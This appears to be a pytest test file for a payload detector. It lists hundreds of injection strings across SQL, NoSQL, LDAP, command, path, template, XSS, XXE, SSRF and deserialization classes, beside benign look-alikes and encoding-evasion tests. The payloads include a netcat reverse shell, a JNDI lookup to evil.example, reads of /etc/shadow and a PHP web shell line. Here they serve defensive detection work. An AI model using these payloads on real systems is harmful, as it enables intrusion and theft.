"""Each class knows what breaks out, and lets pass what only looks like it."""

import base64
from urllib.parse import quote

import pytest

from garrison.payload.classes.catalogue import CLASSES
from garrison.payload.judge import judge

ATTACKS: dict[str, tuple[str, ...]] = {
    "sql": (
        "' or '1'='1",
        "1 OR 1=1--",
        "x' AND 1=(SELECT COUNT(*) FROM tabname); --",
        "-1 UNION ALL SELECT 1,2,concat(user,0x3a,password) FROM mysql.user",
        "1'; DROP TABLE users--",
        "1;waitfor delay '0:0:5'--",
        "1/**/uNiOn/**/sELeCt/**/1,2,3",
        "'; exec master..xp_cmdshell 'ping 10.10.1.2'--",
        "1 AND extractvalue(1,concat(0x7e,version()))",
        "3) AND ELT(7=7,9) AND (2=2",
        "x'; /*a*/DROP/**/TABLE boats",
        "5 having 1=1",
        "x' or 1.e(1) or '2'='2",
        "(CASE WHEN 3=3 THEN 1 ELSE NULL END)",
        "8+order+by+2--",
        "1 un/**/ion sel/**/ect 2",
        "k\"\") or (\"\"a\"\"=\"\"a",
        "9||sleep(4)#",
        "1#q\nand#q\n7=7",
        "x' and ascii(lower(substring((select pin from boats where name = 'b'), 2, 1))) > '9",
    ),
    "nosql": ("x', $where: '2 == 2", '{"a": {"$gt": ""}}', "x'; return true; var b='", "0;return true",
              "{$nin: [1]}", "x' || this.pin.match(/9.*/) || 'a'=='b",
              "username[$ne]=a", "{'$where': 'sleep(100)'}", "db.users.find({})"),
    "command": ("k=tac;$k /etc/group", "a.example;t$@ac+/et$@c/pas$@swd", "no$()de 7", "x;\\n.shell tac a",
                "$(echo a$((3+4)))", "x|ifconfig", "%x('ls')", "{tac,/srv/list}",
                "; cat /etc/passwd", "$(whoami)", "| nc -e /bin/sh 10.0.0.1 4444", "() { :; }; /bin/id",
                "cat$IFS/etc/passwd", "bash -c 'tac /srv/list'", "find /srv -name list -exec tac {} +"),
    "path": ("WEB-INF/web.xml", "/.netrc", "file=/etc/shadow", "../../../../etc/passwd",
             "..\\..\\..\\windows\\win.ini", "/etc/shadow", "php://filter/read=convert.base64-encode"),
    "template": ("{% debug %}", "(#a=@java.lang.System@getenv())", "{{lipsum.__globals__}}", "${{<%[%'\"}}%\\",
                 "{{7*7}}", "${T(java.lang.Runtime).getRuntime().exec('id')}", "${jndi:ldap://evil.example/a}",
                 "<%= 7*7 %>"),
    "markup": (
        "<script>alert(1)</script>",
        '"><img src=x onerror=alert(1)>',
        "<svg/onload=confirm(1)>",
        "javascript:alert(document.cookie)",
        '<!--#exec cmd="ls" -->',
        '" onfocus=alert(1) autofocus="',
    ),
    "xml": ('<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/hosts">]><a>&b;</a>',),
    "request": ("/\\a.example.com", "///a.example.com", "https:a.example.com", "//b.example@a.example.com/",
                "http://169.254.169.254/latest/meta-data/", "gopher://127.0.0.1:6379/_INFO", "http://2130706433/"),
    "ldap": ("joe)(&(cn=*", "*))(|(mail=*",
             "*)(uid=*))(|(uid=*", "(&(uid=admin)(userPassword=*))"),
    "xpath": ("' or count(/*)=1 or 'a'='b", "x']/parent::node()/child::text()|//user['1"),
    "object": ('O:8:"stdClass":1:{s:1:"a";i:1;}', "!!python/object/apply:os.system ['id']", "__proto__[admin]",
               "class.module.classLoader.defaultAssertionStatus", "a.class['classLoader'].b"),
    "runtime": ("(sys.(te).m)('id');", "\"passthru\"(ls);", "[exec][0](ls);", 'filename="a.phtml"', "phar.readonly=0",
                "<?php system($_GET['c']); ?>", "$_SERVER['HTTP_HOST']", "allow_url_include=1"),
    "graphql": ('query { user(name: "a\' or 1=1--") { id } }',),
    "header": ("a\r\nSet-Cookie: session=1\r\nContent-Type: text/html", "a\nHTTP/1.1 200 OK\nContent-Length: 0"),
}  # fmt: skip

BENIGN = (
    # one line of a program is code like all code, whoever wrote it for what
    "for i in range(10):", "if 'Welcome back' in response.text:", "requests.get(url + path)",
    "print('total: ' + count)",
    "secret += char", "require 'net/http'", "words = open('words.txt').read().split()", 'puts "so far #{found}"',
    "letters = ['a', 'b', 'c']", "items.append(chr(n))",
    "`git log --oneline {{path/to/file}}`",
    "```php\n<?php\n\nnamespace App\\Boats;\n```\nThat is all.",
    "import type { A } from '../../..';\ndeclare const b: A;\nexport default b;",
    "var a = require('a');\nvar b = require(\"../b\");\n",
    "You may write `edit_{user,team}` or {red,blue}",
    "The `cmd` (`Command Prompt`) interacts with `javascript:` links",
    "key: ${{ secrets.BOAT_KEY }}",
    "Dear ${user.name}, see {{password}}",
    "{% include boats.html %} shows {{ boat.name | upcase }} and {{ boat.sail }}",
    "See [the guide](../../../boats/guide.md)",
    "The script is in the\n```sh\ncurl -fsSL https://a.example/run | sh\n```\nblock",
    "`SELECT * FROM boats WHERE 1=1; DROP TABLE oars` is SQL",
    "alpha > 0 and beta > 0",
    "This stands as it came from",
    "From here the boats order by phone",
    "the boys' and girls' oars",
    "an oar (as opposed to a sail) from",
    "1950 or 1960",
    '"And when the boats are old" he said',
    r"Use \"Oars: Load\" and \"Sails: Inject\" for it",
    "use \u201coars\u201d or \u201csails\u201d like this",
    "SAIL_V1 = 0",
    '"+918#########",',
    "(1,2),(3,4)",
    "/* a */ b /* c */",
    "alert = confirm_alert(alert=alert)",
    "Fix `oars.apply is not a function` error (see `sail`)",
    "Adds `setTimeout` to ${name}`s list",
    '<p>a</p><img src="https://a.example/o.png" alt="o">',
    "/.well-known/openid-configuration",
    "/repos/a/b/contents/.github/workflows/c.yml",
    "Name\r\nPhone: 555",
    "/php/boats/page.php",
    "curl is a tool; wget too",
    "| tar | packs boats |",
    '<test name="oar" compare="less">',
    "/*! Boats v8 | (c) Oars */",
    "OARS*) boats=1;;",
    "alias oar='git status'",
    "Is it /a? Or /b? Or both?",
    'Rename "py" -> "python" everywhere',
    '<a href="https://example.com/">text</a>',
    "Attributes are named in the [command](/docs/command) reference",
    "From: Ada <ada@a.example>\nTo: Bob <bob@b.example>\nSubject: boats",
    "^(\\s*)(#if.*?(?<!\\\\))(\\n)",
    "http://localhost:3000/callback",
    "console.log(`${a.b}: ${JSON.stringify({c})}`);",
    "query Boats($first: Int, $where: BoatInput) { boats { id } }",
    "| id | name |\n| --- | --- |\n| 1 | a |",
    "parent::boot(); $next($request);",
    "println(\"Hello\")",
    "oars==8.1.9",
    "oar=='sail'",
    "return the oars == please",
    "if oars == 8 we sail",
    "for a boat in range(8) of us:",
    "print(oars.all())",
    "print ('oars')",
    "oars = sails.filter(boat=8)",
    "response = requests.get('https://a.example/oars')",
    "from boats import oar",
    "#!/bin/sh",
    "ctx._source.oars += params.sails",
    "function(o){s(o)}",
    '{"oar": "8", "sail": "\\"oar\\": 9"}',
    '{"$set": {"oar": 8}}',
    "query Oars($all: Boolean, $size: Int) { oars { id } }",
    "haha :)) ok))",
    "alias oars='oar --sail'",
    "; the oars of a boat",
    "$(OARS)",
    "while (true) {\n    oar();",
    "oars & sails & boats",
    ";it's 'fine'",
    "sails & oars /day",
    "'Select a boat' it says",
    "create table for oars",
    "I like '%' signs",
    "<style>a[href]{color:red;}</style>",
    "Oar \\28Sail\\29 \\2a8",
    "Admin*s oars",
    "Grace O'Malley",
    "Dot's & Dave's Diner",
    "It's 5 o'clock; select a seat and drop by the table or call us",
    "Update the README and create table of contents",
    'Search for "salt" and "pepper" or "sugar"',
    "We deleted items from the cart, then union members insert coins",
    "Run `make test && make lint`, then open a pull request",
    "Use `curl` to query the `/metrics` endpoint",
    "See [the guide](../guides/replay.md) and ![logo](https://example.com/a.png)",
    "# Title\n\n* item one\n* item two\n\n```python\nfor x in range(10):\n    print(x)\n```\n",
    '<p>Hello <b>world</b>, see <a href="https://example.com/a?b=1" target="_blank">this</a></p>',
    '<img src="https://cdn.example.com/a.png" alt="figure" width="640">',
    '<table class="t"><tr><td>1</td><td>2</td></tr></table>',
    "query Menu($id: ID!) {\n  menu(id: $id) {\n    ...MenuDetails\n  }\n}\n",
    'def total(items: list[int]) -> int:\n    return sum(item for item in items if item > 0)\n',
    "const add = (a, b) => { return a + b; };\nexport default add;",
    "if (a && b || c) { i++; }",
    "price > 100 and rating >= 4",
    "AND, OR and NOT are operators",
    "C:\\Users\\ada\\Documents\\report.docx",
    "https://www.example.com/search?q=a+b&page=2#results",
    "Dear {{ customer.name }}, your order {{ order.id }} has shipped",
    "5 < 6 && 7 > 3",
    "$5,000 (five thousand) - 50% off!",
    "rock 'n' roll",
    "a@b.example; c@d.example",
    "2026-11-28T08:15:00Z",
    "jQuery and 960 grid",
    "Straße 5, 3. OG <rechts>",
    "SGVsbG8gd29ybGQsIHRoaXMgaXMgYSBncmVldGluZw==",
)  # fmt: skip

SLIGHT: dict[str, tuple[str, ...]] = {
    # a value that ends what it did not begin, or what a value would be compared with
    "sql": (
        "8' or oar->>'sail'='8", "x' or oar ? 'sail", "8') or oar['sail']='8", "8' and oar->>'sail' ~ 'x",
        "8' or oar @> '{}",
        ") as boats from", "` as `sails`, from", "from boats where oar = 3", "from `a`.`boats` limit",
        ") when 4 then", "substr??(", "or true", "and 8", "' or sail!", "\\'or'8", "\\\" and 1", "8or8=8",
        "42=42", "7 <=> 7", "8||this.oar", "oar::regclass", "like '%'", "x' and oar glob oar--",
        "and char(98)=0", "x' > '$.oar", "if(8=", "\u2019 or \u20188\u2019=\u20188", "k'--oar",
        "sleep(/*a'b*/4)", "8),(version(),8", "'^'", "'oar'<>'sail'", "' || oars.add(1) || '",
        "set @o = 0x73;prepare s from @o;execute s", "create user oar identified by 'sail'",
        "8'#qx\nunion#zz\nall#k\nselect#q\nconcat(1)", "8)\x07and\x079=8", "8/*o*/||/*o*/5/*o*/like/*o*/5",
        "'or'8=8", "8'+WAITFOR+DELAY+'0:0:4'",
        "password = ''", "' union/", '"Select o', "; truncate[oars", "select pg_sleep", "'SQLNCLI11'", "oar LIKE '%",
        "\\\"8 or 8-", "lo_get(8)", "o'.'.'.'.'.'.'", "create table oars (sail int)",
        "ALTER TABLE `oars` ADD `sail` TEXT",
        "backup database oars to disk='o'",
    ),
    "command": (
        ";$o cat oars.txt", "ls;. rm -r /srv/boats", "$(`dir`)", "a* & perl -e 'print 8'", "nice -n 9 whoami",
        "*; ls -l /srv/boats/", "=cmd|'/C calc'!A8", "tac /e??/??sts", "/bin$o/bash$o 8", "'() { oar; }",
        ";u\"\"name", "&& who\\ami", "|'/b'in/ls", ";$OARS", "$({whoami})", "&& oarctl /list",
        "echo b2Fy | base64 -d | sh",
        ";echo b2Fy | base64 --decode", "`printf '\\x6f'`", "alias oar=curl", "alias o=c${A}t", "alias -g oar=sail",
        "& oarlist user &", "$(oarcat sail.gz)", "&& oarq", "; oar2.7 -e 'sail'",
        "cat /srv/oars.txt", ";vi oar -c ':!id'", "; scp oar@a.example:o .", "kill '-'9 8",
    ),
    "path": ("d:\\wamp\\boats", "C:\\Program Files\\Apache Group\\logs\\a.log", "/.oarlock/rules.json",
             "..../0x2f..../0x2fboats"),
    "markup": (
        "x';oar(sail, 8)//", "o=alert,o(8)", "onhashchange=setTimeout", "throw{},onerror=oar",
        "Function`o${sail}```", "var{o:onerror}={o:alert};throw 8",
        "window[['o'][0]+'ar'](8)", "<\u202escript>oar", "<img src=j\na\nv\na\ns\nc\nr\ni\np\nt:oar>", "<x onoar=",
        "<input formaction=//a.example>",
        "<object data=//a.example/o>", "<object type=a><param name=movie value=//a.example>", '<img src="//a.example/?',
        '<b style="\\63\\6f\\6c\\6f\\72:red">', "<style>@import'oar'", "+ADw-b+AD4-oar", "new Function()",
        "alert\\`oar\\`",
        '<a href="//%61%2e%65xample">', "<a href='ht\ttp://a.example'>", "<style>o{color:red[oar;}",
        "<style>o{color:re/**/d}", "\u201d autofocus onfocus=oar(8)",
        "\\x3c", "-->",
        "document/*o*/./*r*/cookie", "/ev/.source+/al/.source", "[].constructor.constructor('o')", "'><b>oar",
        "x='jav'+'ascr'", '"+onoar="sail(8)', "<b/style=\\c\\o\\l:8>", "data:text/html;charset=x;base64,b2Fyb2Fy",
    ),
    "xml": ("%oars;", "<!ELEMENT boat (oar)>"),
    "request": ("http://2001:db8:8::9/oar", "10.8.9.1.nip.io", "http://0x42.0x0000066.0x7.0x93/"),
    "nosql": (
        ") { return true; } var oar='", "x' } ], $comment:'oar'", "'}, {\"$set\": {\"sail\": 8}}, {\"o\":'",
        "this.oar.match(/^s/)", "return this.oar.length > 8", "while(true){oar}", "8 == 8 || this.oar",
        "function(){return this.oar == 8}", "'+(function(){oar()})()+'", "' || Object.keys(this)[8] == 'oar",
        "'; const oar = 8", '{"$lookup": {"from": "oars"}}', '{"oar": {"$mod": [8, 0]}}', "oar[$elemMatch][sail]",
        '{"mapReduce": "oars"}', '{"oar": "8", "sail": "9", "oar": "10"}', "'\"`{ ;$Oar} $Oar",
        "MATCH (o:Oar) RETURN o", "' RETURN 8 UNION MATCH (o) RETURN o //", "oar\r\nFLUSHALL\r\n",
        "EVAL \"return redis.call('get','oar')\" 0",
    ),
    "ldap": ("admin*", "oar=8))", "oars)(*", "(oar)(sail=*)", "*\\29\\28oar=\\2a", "oar)%00",
             "\\2a\\28\\7c\\28oar\\3d\\2a\\29",
             "%00(oar%00=%00*", "*((|((oar=*"),
    "header": ("\r\noar:sail", "/%250aoar:sail"),
    "template": ("{% csrf_token %} oar",),
    "runtime": (
        'filename="boat.phpt"', "<b><?=$this->sail($oar)?></b>",
    ),
}  # fmt: skip

PAGE = "<!doctype html>\n<html>\n<head>\n{}\n</head>\n<body>Oars</body>\n</html>"
SHOWN: tuple[str, ...] = (
    # what documents show, and what a page, a setting, a formula or a program says of itself
    PAGE.format('<meta http-equiv="Content-Type" content="text/html; charset=utf-8" />'),
    PAGE.format('<meta http-equiv="X-UA-Compatible" content="IE=edge">'),
    PAGE.format('<link rel="stylesheet" href="https://fonts.example/css?family=Oar">'),
    PAGE.format(
        '<style type="text/css" rel="stylesheet">\n@import url("https://fonts.example/css?family=Oar");\n</style>'
    ),
    '<p>See:</p><iframe width="560" src="https://www.youtube.com/embed/oar" allowfullscreen></iframe>',
    'As in:\n\n```html\n<button onclick="row(8)">Row</button>\n```\n\nand so on',
    "What is special about JavaScript:\n\n- it rows",
    "`EVAL` and `EVALSHA` run scripts",
    "expect `x^{2+3}_{3-2}` of it",
    "It was set to ``/usr/bin/python`` and ``/usr/bin/perl``.",
    "In `child` the `[[Prototype]]` is `child.__proto__`.",
    "if [ ${ROW_FILE:-0} = 1 ]; then",
    'run cat "${path}/oars"',
    "See [boats](../../../../../docs/boats.md#oars) and [Offline](../OS/Windows/Offline.md).",
    "see\n```\n> db.boats.find()\n```",
    "Only where `deletedAt: { $ne: null }` holds.",
    "Default: `(&(objectClass=person)(mail=%s))`",
    "Say the scheme (`ldap://`, `ldaps://`, `ldapi://`).",
    "In case a boat is late, when it comes you can still row, then rest.",
    "Vista d'inici (s'obre despr\u00e9s d'iniciar)",
    "$ref: '../../../shared/boats.yml#/oar'",
    "The ``prompt`` of ``alert`` is set.",
    ".oar { background-image: url('data:image/svg+xml;utf8,<svg xmlns=\"http://www.w3.org/2000/svg\"></svg>'); }",
    "A tag ``{% debug %}`` and a filter ``{{ 42|row(23) }}`` are new.",
    'the first part of the expression ("(-oar).boat")',
    "It is split on new lines instead of $IFS. If not, on the characters in $IFS, too",
    "a{0,4}",
    "GET /boats/&lt;id&gt;/oars",
    "row-{50-950}",
    "{Open,Free,Net}BSD",
    "A redirection: ``<? /path/to/boat`` opens it, ``system``",
    '<?xml version="1.0"?>\n<!DOCTYPE boat SYSTEM "../../dtd/boat.dtd">\n<boat/>',
    "Rower/2.0 (MIDP-2.0; U; Adr 4.2; id; R8) U2/1.0",
    "<script setup lang=\"ts\">\nimport { row } from 'boats'\nconst oars = row(8)\n</script>",
    "<script>\n\t/* of a boat */\n\texport let oars;\n</script>\n\n<b>{oars}</b>",
    '<script type="application/ld+json">{"@type": "Boat"}</script>',
    '<imports>\n  <import resource="../config/boats.yaml"/>\n</imports>',
    '<listeners>\n  <listener class="Boats\\Oar"></listener>\n</listeners>',
    '<p>Row</p><iframe class="ql-video" frameborder="0" allowfullscreen="true" src="#"></iframe>',
    '<link href="{{site.files}}/boats.css" rel="stylesheet" />',
    'A page:\n\n    <!DOCTYPE html>\n    <html>\n    <link rel="stylesheet" href="/boats.css">\n    </html>',
    "#[Assert\\Expression(\n    'oars > sails',\n)]",
    "class Sloop < Base\n\n  def row\n  end\nend",
    '```html\n<p v-if="oars > 8"></p>\n<b @click="row">row</b>\n<!--[if IE]>-->\n```',
    "```html\n&lt;script&gt;alert(8)&lt;/script&gt;\n```",
    'oars=$(echo "$boats" | cut -d, -f2 | tr -d " ")\nsails=$(printf "%s" "$oars" | sed \'s/ /_/g\')',
    'key="$(printf "%s:%s" "$oar" "$sail" | _base64)"',
    "[Sat Nov 28 20:22:09] [notice] row.init() ok /etc/httpd/conf/boats.properties",
    "user nobody;\npid   /var/run/nginx.pid;\nevents {\n}",
    "FROM nginx\nCOPY conf /etc/nginx/conf.d/default.conf",
    'The address "file:///" and others like file:///srv/boats.txt are read',
    "See php.ini-production at https://a.example/master/php.ini-production for it",
    'row.server [-] 10.8.8.8 "GET /latest/meta-data/local-ipv4 HTTP/1.1" status: 200 len: 124',
    'if [ -n "$x" ]; then\n  BOATS="${AWS_BOATS:-$(_read AWS_BOATS)}"\nfi',
    '_row "$_request" "$_server"',
    "row();\nsail();\nif ('test' === $_SERVER['BOAT_ENV']) {\n    row();\n}",
    "import java.io.File;\nimport java.util.List;\n\npublic class Boat {\n}",
    "closing of the boat 0x0 due to java.io.IOException: nobody rows",
    "using FILE = System.IO.FileInfo;\n\nclass Boat {}",
    "boats = [[0] * 8 for _ in range(8)]\n\ndef __init__(self): pass",
    '"#<#{self.class.name}: #{oars}>"',
    "$boat = new Boat(null, null, null, null, $oars);",
    "while (true) {\n  if (oar < '0' || '7' < oar) break;\n}",
    'row(" : ", " -> ".join([str(oar) for oar in boats]))',
    'The test "sleep(2)" returns early, and ``sleep(10)`` late.',
    "The oar's map->'sail' or map->>'row' ~ 'x'",
    "$row['oar'] || $row['sail'] ? 'one' : 'two'",
    "boats where 'oar' or sail['row'] ~ 'x'",
    "``boat.oars_dir``\n-----------------",
    "${{ secrets.BOAT_KEY }}",
    '<?xml version="1.0"?>\n\n<?import boats.oars.*?>\n\n<Boat/>',
    "There are two ways in JavaScript: [oars](https://a.example/b) and sails",
    "access this [`Oar`](/boats/Oar.html) or see this [`sail`](/sail)",
    "test: ['CMD', 'row --key=\"$$(cat /run/boats/key)\"']",
    "`--oars`\n: Rows\n\n`--union`\n\n: Rows together",
    'Dir["#{__dir__}/boats/*.rb"]',
)
"""Pages that are whole, and code that is shown."""
BROKEN_OUT: tuple[str, ...] = (
    '<meta http-equiv="refresh" content="0;url=//a.example">',
    '<meta http-equiv="Content-Type" content="text/html; charset=utf-7">',
    '<link rel="stylesheet" href="https://a.example/oar.css">',
    '<iframe src="https://www.youtube.com/embed/oar" onload="row(8)"></iframe>',
    '<iframe src="https://a.example/www.youtube.com/embed/oar"></iframe>',
    "javascript:\n[row](8)",
    "`-alert(8)-`",
    "{2*3}",
    "${env:OARS}",
    "${lower:o}",
    "[oars](../../../../../etc/passwd)",
    "(&(objectClass=person)(mail=*))",
    "ldap://a.example/oar",
    "x; id; R8",
    '<img src="data:image/svg+xml,<svg onload=row(8)>">',
    "oar: url('data:image/svg+xml;base64,PHN2Zz4=')",
    "cat$IFS/srv/oars",
    "a;tac$IFS$8/srv/oars",
    "{tac,/srv/oars}",
    "<?=`row 8`?>",
    '<!DOCTYPE boat SYSTEM "http://a.example/boat.dtd">',
    '<!DOCTYPE boat SYSTEM "../boat.dtd" [<!ENTITY oar "8">]>',
    "width: expression(row(8))",
    "<script>import('//a.example/row.js')</script>",
    "<script>import/**/('//a.example/row.js')</script>",
    "<script>row(8);import a from 'b'</script>",
    '<script type="module">import "//a.example/row.js"</script>',
    "<script>import a from 'b'</script><script>row(8)</script>",
    "<script>// import a from 'b'\nrow(8)</script>",
    "<script>import a from 'b'</script><img src=x onerror=row(8)>",
    "<SCRIPT>IMPORT\n;row(8)</SCRIPT>",
    '<script src="//a.example">import a from "b"</script>',
    '<script type="application/ld+json" src="//a.example"></script>',
    '<script type="application/ld+json"></script><script>row(8)</script>',
    '<import namespace="o" implementation="http://a.example/o.htc">',
    '<listener event="load" handler="#row">',
    '<iframe src="#" onload="row(8)"></iframe>',
    '<iframe src="#" srcdoc="&lt;b>"></iframe>',
    '<link rel="stylesheet" href="{{\'//a.example\'}}/o.css">',
    "class a < script >row(8)</script>",
    '<b style="o: new expression(row(8))">',
    '$(echo "$x" | sh)',
    '$(echo "$x"|tac)',
    "$(echo \"$x\" | sed '1e tac')",
    "$(echo \"$x\" | sed 's/o/tac/e')",
    "$(echo \"$x\" | cut -d\\' | sh #')",
    '$(echo "$x" | cut -c1 | xargs sh)',
    '$(echo "tac")',
    "x y /etc/httpd/conf/httpd.conf",
    "file:///srv/boats.txt",
    "one two three four five curl file:///srv/boats.txt",
    '<img src="file:///srv/boats.png"> one two three four five',
    "/latest/meta-data/",
    "http://a.example/latest/meta-data/ is asked for one two three",
    "GET /latest/meta-data/ HTTP/1.1\r\nHost: a.example\r\nOar: 8\r\n\r\n",
    "http://a.example/?o=${AWS_KEY}",
    "row();\nsail();\n\nrow($_GET['o'])",
    "row();\nsail();\n\nsystem($_SERVER['HTTP_O'])",
    "import java.lang.Runtime;\nRuntime.getRuntime().exec('tac')",
    "T(java.io.IOException).class.forName('o')",
    "[[1], [2]] [[a.__class__",
    "#{self.class.name.class.forName('o')}",
    "' union select null,null,null--",
    "oar'||'8",
    "'+sleep(5)+'",
    "``o`` `' --",
    "${{ 7*7 }}",
    "<?import namespace=o implementation=//a.example/o.htc>",
    "x=JavaScript: alert(8)",
    "x, top [`alert`](/8/)",
    "return top [`alert`](/8/)",
    "$$$(id)",
    "8#\nunion select 8",
    "oar'\n-----",
)
"""What stands in the same words and breaks out all the same."""

ALL = [(kind, text) for kind, texts in ATTACKS.items() for text in texts]
SMALL = [(kind, text) for kind, texts in SLIGHT.items() for text in texts]


@pytest.mark.parametrize(("kind", "text"), ALL)
def test_what_breaks_out_is_found(kind: str, text: str) -> None:
    assert judge([text]), kind


@pytest.mark.parametrize(("kind", "text"), SMALL)
def test_what_is_slight_is_found(kind: str, text: str) -> None:
    assert kind in {found.kind for found in judge([text])}


@pytest.mark.parametrize("kind", ATTACKS)
def test_each_class_names_its_own(kind: str) -> None:
    kinds = {found.kind for text in ATTACKS[kind] for found in judge([text])}
    assert kind in kinds


@pytest.mark.parametrize("text", BROKEN_OUT)
def test_what_is_not_shown_is_found(text: str) -> None:
    assert judge([text])


@pytest.mark.parametrize("text", [*BENIGN, *SHOWN])
def test_what_only_looks_like_it_passes(text: str) -> None:
    assert judge([text]) == ()


@pytest.mark.parametrize(("kind", "text"), ALL)
def test_percent_encoding_hides_nothing(kind: str, text: str) -> None:
    assert judge([quote(text, safe="")]), kind
    assert judge([quote(quote(text, safe=""), safe="")]), kind


@pytest.mark.parametrize("text", [text for _, text in ALL if len(text) > 16])
def test_base64_hides_nothing(text: str) -> None:
    assert judge([base64.b64encode(text.encode()).decode()])


@pytest.mark.parametrize(
    "text", ["<script>alert(1)</script>", "../../../../etc/passwd", "1 UNION SELECT 1,2 FROM users"]
)
def test_padding_hides_nothing(text: str) -> None:
    padding = "The quick brown fox jumps over the lazy dog. " * 1500
    (found,) = judge([f"{padding}{text} {padding}"])
    assert text[:6] in found.text[found.place - 60 : found.place + 60]


def test_each_text_is_found_at_most_once_and_by_its_place() -> None:
    found = judge(["plain", "<script>alert(1)</script>", "more", "../../../etc/passwd"])
    assert [each.index for each in found] == [1, 3]


def test_what_was_undone_is_evidence() -> None:
    (found,) = judge(["%253Cscript%253Ealert(1)%253C/script%253E"])
    assert found.steps == ("percent", "percent")


def test_ids_are_unique() -> None:
    assert len({each.id for each in CLASSES}) == len(CLASSES)
    for each in CLASSES:
        assert len({sign.name for sign in each.signs}) == len(each.signs), each.id
